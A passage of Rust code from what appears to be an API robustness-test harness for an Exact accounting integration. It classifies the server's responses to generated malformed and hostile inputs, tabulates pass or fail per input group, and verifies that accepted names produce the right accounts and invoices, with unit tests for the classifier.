            outcome = classify(s2, &b2, &c.expect, &mut problems, &c.what);
        }
        if let (Expect::Accept(Some(v)), Outcome::AcceptedOk) = (&c.expect, outcome)
            && let Err(why) = verify(&w, v)
        {
            problems.push(format!("{}: {why}", c.what));
            outcome = Outcome::Mishandled;
        }
        tallies.entry(c.group).or_default().add(outcome);
    }
    secrets.collect(&w.h);

    add_rows(table, &tallies);
    if let Err(e) = configured {
        table.not_measured(
            "Inputs → push connection configured through POST …/exact/test",
            "200",
            &e,
        );
    }
    for p in problems.iter().take(25) {
        table.note(format!("- input problem: {p}"));
    }
    if problems.len() > 25 {
        table.note(format!(
            "- … and {} more input problems",
            problems.len() - 25
        ));
    }
}

/// The rows of the group: per input group, and the totals. A group with no case, or fewer than 200 inputs in
/// all, fails: a row that measured nothing proves nothing.
fn add_rows(table: &mut Table, tallies: &std::collections::BTreeMap<Group, Tally>) {
    let total: usize = tallies.values().map(|t| t.n).sum();
    let sum = |k: &str| tallies.values().map(|t| t.get(k)).sum::<usize>();
    table.row(
        "Malformed/hostile inputs generated (seeded, deterministic)",
        total.to_string(),
        "≥ 200",
        if total >= 200 {
            Verdict::Pass
        } else {
            Verdict::Fail("fewer than 200 inputs".into())
        },
    );
    for g in Group::ALL {
        let Some(t) = tallies.get(&g).filter(|t| t.n > 0) else {
            table.not_measured(
                format!("Inputs → {} (0 cases)", g.label()),
                "every case right",
                "no input of this group was sent",
            );
            continue;
        };
        let case = format!("Inputs → {} ({} cases)", g.label(), t.n);
        let mut measured = format!(
            "{} clear 4xx, {} accepted as intended",
            t.get("clear 4xx"),
            t.get("accepted as intended")
        );
        for k in [
            "unclear 4xx",
            "malformed accepted",
            "valid data mishandled",
            "5xx",
        ] {
            if t.get(k) > 0 {
                let _ = write!(measured, ", {} {k}", t.get(k));
            }
        }
        let bad = t.get("unclear 4xx")
            + t.get("malformed accepted")
            + t.get("valid data mishandled")
            + t.get("5xx");
        let verdict = if bad == 0 {
            Verdict::Pass
        } else {
            Verdict::Fail(format!("{bad} wrong answers"))
        };
        table.row(case, measured, "every case right", verdict);
    }
    let ctx = format!("of {total} answered");
    table.exact("Inputs → 5xx answers (501 included)", sum("5xx"), 0, &ctx);
    table.exact(
        "Inputs → 4xx without code/message, or not naming the field at fault",
        sum("unclear 4xx"),
        0,
        &ctx,
    );
    table.exact(
        "Inputs → malformed input accepted (2xx)",
        sum("malformed accepted"),
        0,
        &ctx,
    );
    table.exact(
        "Inputs → valid unicode/injection text refused or stored wrongly",
        sum("valid data mishandled"),
        0,
        &ctx,
    );
}

fn classify(
    status: u16,
    body: &Value,
    expect: &Expect,
    problems: &mut Vec<String>,
    what: &str,
) -> Outcome {
    if status >= 500 {
        problems.push(format!("{what}: {status} {}", short_body(body)));
        return Outcome::Server5xx;
    }
    if (400..500).contains(&status) {
        return match expect {
            Expect::Accept(_) => {
                problems.push(format!(
                    "{what}: refused with {status} {}",
                    short_body(body)
                ));
                Outcome::Mishandled
            }
            Expect::Reject {
                field,
                status: want,
            } => {
                if let Some(w) = want
                    && *w != status
                {
                    problems.push(format!("{what}: {status}, expected {w}"));
                    return Outcome::Unclear4xx;
                }
                match clear(body, field.as_deref()) {
                    Ok(()) => Outcome::Clear4xx,
                    Err(why) => {
                        problems.push(format!("{what}: {status} {why}"));
                        Outcome::Unclear4xx
                    }
                }
            }
            Expect::Either => match clear(body, None) {
                Ok(()) => Outcome::Clear4xx,
                Err(why) => {
                    problems.push(format!("{what}: {status} {why}"));
                    Outcome::Unclear4xx
                }
            },
        };
    }
    if (200..300).contains(&status) {
        return match expect {
            Expect::Reject { .. } => {
                problems.push(format!("{what}: accepted with {status}"));
                Outcome::WronglyAccepted
            }
            _ => Outcome::AcceptedOk,
        };
    }
    problems.push(format!("{what}: unexpected status {status}"));
    Outcome::Unclear4xx
}

/// An accepted hostile name: one Exact account with exactly that name, and each invoice on it.
fn verify(w: &World, v: &Verify) -> Result<(), String> {
    let accounts = w.accounts_named(DIVISION, &v.company_name);
    if accounts != 1 {
        return Err(format!(
            "{accounts} Exact accounts named exactly {:?} (expected 1)",
            v.company_name
        ));
    }
    for r in &v.references {
        let invs = w.invoices_with_ref(DIVISION, r);
        if invs.len() != 1 {
            return Err(format!(
                "{} Exact invoices with YourRef {r:?} (expected 1)",
                invs.len()
            ));
        }
        let world = w.h.sandbox.world();
        let name = world
            .division(DIVISION)
            .and_then(|d| d.account(invs[0].invoice_to))
            .map(|a| a.name.clone())
            .unwrap_or_default();
        if name != v.company_name {
            return Err(format!(
                "invoice {r:?} went to account {name:?}, not {:?}",
                v.company_name
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Tallies for every group as a handler answering `status` to every case would give.
    fn tallies_for(status: u16, body: &Value) -> std::collections::BTreeMap<Group, Tally> {
        let mut problems = Vec::new();
        let mut tallies: std::collections::BTreeMap<Group, Tally> = Default::default();
        for c in generate() {
            let o = classify(status, body, &c.expect, &mut problems, &c.what);
            tallies.entry(c.group).or_default().add(o);
        }
        tallies
    }

    #[test]
    fn an_all_501_handler_fails_every_row() {
        let tallies = tallies_for(501, &Value::Null);
        let mut t = Table::new("t");
        add_rows(&mut t, &tallies);
        let failed: Vec<&str> = t.failures().iter().map(|r| r.case.as_str()).collect();
        assert!(
            failed.iter().any(|c| c.starts_with("Inputs → 5xx")),
            "{}",
            t.render()
        );
        for g in Group::ALL {
            assert!(
                failed.iter().any(|c| c.contains(g.label())),
                "group {} must fail: {}",
                g.label(),
                t.render()
            );
        }
    }

    #[test]
    fn a_group_with_no_case_fails() {
        let mut tallies = tallies_for(501, &Value::Null);
        tallies.remove(&Group::Authorize);
        let mut t = Table::new("t");
        add_rows(&mut t, &tallies);
        assert!(
            t.failures()
                .iter()
                .any(|r| r.case.contains(Group::Authorize.label()) && r.case.contains("0 cases")),
            "{}",
            t.render()
        );
    }
}
